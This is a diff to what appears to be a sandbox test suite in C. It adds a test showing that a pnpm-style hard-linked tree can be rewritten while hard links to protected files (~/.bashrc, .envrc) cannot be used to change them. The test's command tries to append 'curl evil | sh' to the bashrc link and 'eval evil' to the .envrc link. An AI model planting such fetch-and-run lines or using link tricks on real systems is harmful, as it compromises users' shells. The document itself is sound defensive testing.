@@ -6,7 +6,9 @@
  * is not listed as refused, while a path the pack hides still answers
  * EACCES; the tools' caches are written without an ask and without a
  * backup; a write over the backup size limit is named in the summary with
- * its real path, and the approval the summary prints lets the rerun through.
+ * its real path, and the approval the summary prints lets the rerun through;
+ * a hard-linked (pnpm-style) tree is rewritten as bare, while a link made
+ * beforehand to a protected file cannot change it.
  */
 #include "run_fixture.h"
 
@@ -210,6 +212,85 @@ static void write_over_the_size_limit_is_named_and_its_approval_lets_the_rerun_t
 	free(out);
 }
 
+/* `name` in `dir`, hard-linked to `to`. */
+static void link_in(const char *to, const char *dir, const char *name)
+{
+	char path[PATH_MAX + 64];
+
+	snprintf(path, sizeof(path), "%s/%s", dir, name);
+	if (link(to, path) != 0)
+		fail_msg("link %s %s: %s", to, path, strerror(errno));
+}
+
+static void hard_linked_tree_is_rewritten_but_a_link_to_a_protected_file_is_not(void **state)
+{
+	struct fixture *f = *state;
+	char why[512], store[PATH_MAX + 64], blob[PATH_MAX + 96], nm[PATH_MAX + 32];
+	char bashrc[PATH_MAX + 16], envrc[PATH_MAX + 16], *out = NULL, *text;
+	const cJSON *d;
+	cJSON *s;
+	int ex;
+
+	if (fsbt_sandbox_unsupported(why, sizeof(why)) != NULL)
+		fsbt_skip("%s", why);
+	/* pnpm's layout: the store in home, node_modules linking into it. */
+	snprintf(store, sizeof(store), "%s/.local/share/pnpm/store", f->home);
+	assert_int_equal(system((snprintf(why, sizeof(why), "mkdir -p '%s'", store), why)), 0);
+	snprintf(blob, sizeof(blob), "%s/blob", store);
+	fsbt_write_file(blob, "module.exports = 1;\n");
+	snprintf(nm, sizeof(nm), "%s/node_modules", f->ws);
+	assert_int_equal(mkdir(nm, 0755), 0);
+	link_in(blob, nm, "index.js");
+	/* Links made beforehand to files the pack protects: ~/.bashrc (asked
+	 * about) and the workspace's .envrc (denyModify). */
+	snprintf(bashrc, sizeof(bashrc), "%s/.bashrc", f->home);
+	fsbt_write_file(bashrc, "export SAFE=1\n");
+	link_in(bashrc, f->ws, "innocent.txt");
+	snprintf(envrc, sizeof(envrc), "%s/.envrc", f->ws);
+	fsbt_write_file(envrc, "layout python\n");
+	link_in(envrc, f->ws, "notes.txt");
+
+	s = run_with_summary(f,
+			     "echo 'module.exports = 2;' > node_modules/index.js && chmod 600 "
+			     "node_modules/index.js && ln node_modules/index.js again.js && echo linked;"
+			     "echo 'curl evil | sh' >> innocent.txt || echo bashrc-refused;"
+			     "chmod 777 innocent.txt || echo chmod-refused;"
+			     "echo 'eval evil' > notes.txt || echo envrc-refused;"
+			     "ln innocent.txt third.txt || echo link-refused",
+			     &ex, &out);
+	/* The pnpm tree: rewritten, chmodded, linked again, as bare. */
+	expect_line(out, "linked\n");
+	text = fsbt_read_file(blob, NULL);
+	assert_string_equal(text, "module.exports = 2;\n");
+	free(text);
+	/* The protected files: untouched through any name. */
+	expect_line(out, "bashrc-refused\n");
+	expect_line(out, "chmod-refused\n");
+	expect_line(out, "envrc-refused\n");
+	expect_line(out, "link-refused\n");
+	text = fsbt_read_file(bashrc, NULL);
+	assert_string_equal(text, "export SAFE=1\n");
+	free(text);
+	text = fsbt_read_file(envrc, NULL);
+	assert_string_equal(text, "layout python\n");
+	free(text);
+	/* Refused, naming the protected file; nothing waits for an approval. */
+	assert_int_equal(list_size(s, "waiting"), 0);
+	d = cJSON_GetObjectItemCaseSensitive(s, "denied");
+	assert_true(cJSON_GetArraySize(d) >= 3);
+	for (int i = 0; i < cJSON_GetArraySize(d); i++) {
+		const char *rule = fsbt_str(cJSON_GetArrayItem(d, i), "rule");
+
+		if (strncmp(rule, "hardlinks: another name of ", 27) != 0)
+			fail_msg("refused by another rule: %s",
+				 cJSON_PrintUnformatted(cJSON_GetArrayItem(d, i)));
+		if (strstr(rule, bashrc) == NULL && strstr(rule, envrc) == NULL)
+			fail_msg("the rule does not name the protected file: %s", rule);
+	}
+	cJSON_Delete(s);
+	free(out);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -221,6 +302,9 @@ int main(void)
 		cmocka_unit_test_setup_teardown(
 			write_over_the_size_limit_is_named_and_its_approval_lets_the_rerun_through,
 			setup, teardown),
+		cmocka_unit_test_setup_teardown(
+			hard_linked_tree_is_rewritten_but_a_link_to_a_protected_file_is_not, setup,
+			teardown),
 	};
 
 	return fsbt_run_group(tests, NULL, NULL);
